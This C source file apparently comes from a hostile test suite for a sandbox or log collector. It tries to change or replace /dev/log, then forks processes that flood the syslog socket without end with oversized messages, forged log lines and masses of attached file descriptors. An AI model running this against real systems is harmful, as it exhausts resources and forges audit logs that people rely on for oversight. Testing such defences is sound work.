/* flood_syslog: tries to change /dev/log, then floods it, until it is killed, with messages that
   are too long, that forge lines, and that have files attached. It prints what it could change. */
#define _GNU_SOURCE
#include "hostile.h"

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#define LOG "/dev/log"
#define LARGEST (200 * 1024)
/* As many as a message can have. */
#define FILES 253

static void report(const char *what, int result) {
  if (result == 0) puts(what);
}

static void change(void) {
  report("chmod", chmod(LOG, 0));
  report("chown", chown(LOG, 0, 0));
  report("unlink", unlink(LOG));
  report("rename", rename(LOG, "/dev/other"));
  report("rename over it", rename("/dev/zero", LOG));
  report("bind", link(LOG, "/dev/other"));
}

static void send_message(int log, const char *text, size_t size, int file) {
  union {
    char bytes[CMSG_SPACE(FILES * sizeof(int))];
    struct cmsghdr header;
  } control = {0};
  struct iovec part = {.iov_base = (char *)text, .iov_len = size};
  struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1};
  if (file >= 0) {
    message.msg_control = control.bytes;
    message.msg_controllen = sizeof control.bytes;
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(FILES * sizeof(int));
    for (int i = 0; i < FILES; i++) ((int *)CMSG_DATA(header))[i] = file;
  }
  sendmsg(log, &message, 0);
}

int flood_syslog(int argc, char **argv) {
  (void)argc, (void)argv;
  change();
  struct sockaddr_un address = {.sun_family = AF_UNIX, .sun_path = LOG};
  int log = socket(AF_UNIX, SOCK_DGRAM, 0);
  if (connect(log, (struct sockaddr *)&address, sizeof address) != 0) {
    perror("connect");
    return 1;
  }
  int file = open(SPOILS "/attached", O_CREAT | O_RDWR, 0600);
  char *large = malloc(LARGEST);
  memset(large, 'x', LARGEST);
  const char forged[] = "<999>one\n2026-01-01T00:00:00.000000000Z stdout F forged\n\0\xff<0>";
  for (int i = 0; i < 4; i++) fork();
  for (unsigned i = 0;; i++) {
    send_message(log, forged, sizeof forged, i % 2 ? file : -1);
    send_message(log, large, i % 3 ? LARGEST : 0, i % 5 ? -1 : file);
    if (i == 100) puts("flooded");
  }
}
